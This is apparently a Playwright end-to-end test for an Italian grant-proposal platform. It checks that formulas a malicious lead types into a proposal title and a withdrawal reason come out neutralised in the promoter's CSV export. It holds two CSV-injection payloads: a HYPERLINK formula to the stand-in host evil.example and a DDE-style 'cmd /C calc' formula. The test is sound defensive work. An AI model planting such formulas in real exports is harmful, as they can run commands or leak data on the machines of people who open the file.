import { readFileSync } from "node:fs";
import { expect, test, type Page } from "@playwright/test";
import { DEMO_SIGN_INS } from "../../db/seed/data";
import { FORMULA_STARTS, parseCsv } from "../../test/csv";
import { ANNEX, LETTER, uploadAttachment } from "../attachments";
import { openWorkspace, signInSession, signOut } from "../helpers";

/**
 * Issue 8, item 4: a lead types formulas where the UI lets it — the proposal's title and
 * the withdrawal reason — and the promoter downloads the CSV of the call. Every such
 * cell must come out neutralised (a leading apostrophe), and no cell of the file may
 * start like a formula, while amounts stay numbers.
 */

const OPEN_CALL = "Piattaforme digitali condivise per il distretto";
const ATTACKER = "giorgio.bertot@logisticaaltocanavese.demo";
const CASEIFICIO = "luisa.vercellino@caseificiovallesacra.demo";
const FONDAZIONE = "davide.martinetto@fondazione-ict.demo";

/** The partner accepts, then uploads the letter of intent the call requires of it. */
async function acceptInvitation(page: Page, email: string, title: string, workspace: string, organisation: string) {
  await signInSession(page, email);
  await page.goto("/partnerships");
  await page.getByRole("button", { name: `Accetta l'invito a «${title}»` }).click();
  await expect(page.getByRole("button", { name: `Accetta l'invito a «${title}»` })).toHaveCount(0);
  await page.goto(workspace);
  await uploadAttachment(page, LETTER, organisation);
  await signOut(page);
}

test("formulas typed by a lead come out of the promoters' CSV as text", async ({ page }) => {
  const stamp = Date.now();
  const title = `=HYPERLINK("http://evil.example/?t=${stamp}","Apri")`;
  const reason = `@SUM(1+1)*cmd|' /C calc'!A0 ${stamp}`;

  // The attacker, admin of a member firm, leads a proposal whose title is a formula.
  await signInSession(page, ATTACKER);
  await page.goto("/coalitions/canavese");
  await page.getByRole("link", { name: OPEN_CALL }).first().click();
  await expect(page.getByRole("heading", { name: OPEN_CALL, level: 1 })).toBeVisible();
  const callId = page.url().split("/").pop()!;
  await page.getByRole("link", { name: "Proponi un progetto" }).click();
  await page.getByLabel("Titolo").fill(title);
  await page.getByRole("button", { name: "Crea la bozza" }).click();
  await expect(page.getByRole("heading", { name: title, level: 1 })).toBeVisible();
  const workspace = page.url();

  await page.getByLabel("Sintesi").fill("Consegne condivise tra le valli.");
  await page.getByLabel("Il problema condiviso del distretto").fill("Ogni produttore consegna da solo.");
  await page.getByLabel("Tipo di soluzione ICT").selectOption("erp");
  await page.getByLabel("Obiettivi").fill("Dimezzare i viaggi a vuoto.");
  await page.getByRole("button", { name: "Aggiungi un indicatore" }).click();
  await page.getByLabel("Indicatore", { exact: true }).fill("Viaggi a vuoto");
  await page.getByLabel("Valore di partenza").fill("40");
  await page.getByLabel("Obiettivo", { exact: true }).fill("20");
  await page.getByLabel("Unità").fill("viaggi");
  await page.getByRole("button", { name: "Aggiungi una tappa" }).click();
  await page.getByLabel("Tappa", { exact: true }).fill("Giri condivisi");
  await page.getByLabel("Mese dall'avvio").fill("6");
  await page.getByLabel("Durata (mesi)").fill("12");
  await page.locator("#sectors").getByText("Servizi", { exact: true }).click();
  await page.getByRole("button", { name: "Salva la proposta" }).click();
  await expect(page.getByTestId("save-state")).toHaveText(/^Salvato alle/);

  for (const partner of ["Caseificio Valle Sacra (Impresa)", "Fondazione per la ricerca ICT (demo) (Centro di ricerca)"]) {
    await page.getByLabel("Organizzazione da invitare").selectOption({ label: partner });
    await page.getByLabel("Ruolo nel progetto").fill("Partner");
    await page.getByRole("button", { name: "Invia l'invito" }).click();
    await expect(page.getByTestId("partner-row").filter({ hasText: partner.replace(/ \([^)]*\)$/, "") })).toHaveAttribute("data-status", "invited");
  }
  await signOut(page);
  await acceptInvitation(page, CASEIFICIO, title, workspace, "Caseificio Valle Sacra");
  await acceptInvitation(page, FONDAZIONE, title, workspace, "Fondazione per la ricerca ICT (demo)");

  await signInSession(page, ATTACKER);
  await openWorkspace(page, workspace);
  const part = page.getByTestId("budget-part").filter({ hasText: "Budget di Logistica Alto Canavese S.n.c." });
  await part.getByRole("button", { name: "Aggiungi una voce" }).click();
  await part.getByLabel("Categoria").selectOption("software");
  await part.getByLabel("Descrizione").fill("Pianificazione dei giri");
  await part.getByLabel("Importo (euro)").fill("100.000");
  await part.getByLabel(/^Cofinanziamento di/).fill("30.000");
  await page.getByRole("button", { name: "Salva la proposta" }).click();
  await expect(page.getByTestId("budget-summary")).toContainText("Costo totale 100.000,00 €");
  await uploadAttachment(page, ANNEX);
  await expect(page.getByText("La proposta rispetta tutte le regole del bando.")).toBeVisible();
  await page.getByRole("button", { name: "Presenta la proposta" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Sì, presenta la proposta" }).click();
  await expect(page.getByTestId("proposal-status")).toHaveText("Presentata");

  // Withdrawn with a reason that is a formula too: withdrawn proposals stay in the export.
  await page.getByLabel("Motivo del ritiro").fill(reason);
  await page.getByRole("button", { name: "Ritira la proposta" }).click();
  await page.getByRole("dialog").getByRole("button", { name: "Sì, ritira la proposta" }).click();
  await expect(page.getByTestId("proposal-status")).toHaveText("Ritirata");
  await signOut(page);

  // The promoter downloads the CSV of the call from its review page.
  await signInSession(page, DEMO_SIGN_INS.promoter);
  await page.goto(`/calls/${callId}/review`);
  const downloadPromise = page.waitForEvent("download");
  await page.getByTestId("download-csv").click();
  const download = await downloadPromise;
  const text = readFileSync((await download.path())!, "utf8");
  const [header, ...records] = parseCsv(text);
  const record = records.find((r) => r[header.indexOf("Titolo")].includes(String(stamp)));
  expect(record, "the attacker's proposal is in the file").toBeDefined();
  const cell = (name: string) => record![header.indexOf(name)];

  expect(cell("Titolo")).toBe(`'${title}`);
  expect(cell("Motivazione")).toBe(`'${reason}`);
  expect(cell("Stato")).toBe("Ritirata");
  expect(cell("Contributo richiesto (EUR)")).toBe("70000,00");
  for (const r of [header, ...records]) {
    for (const c of r) expect(FORMULA_STARTS.some((d) => c.startsWith(d)), `cell ${JSON.stringify(c)}`).toBe(false);
  }
});
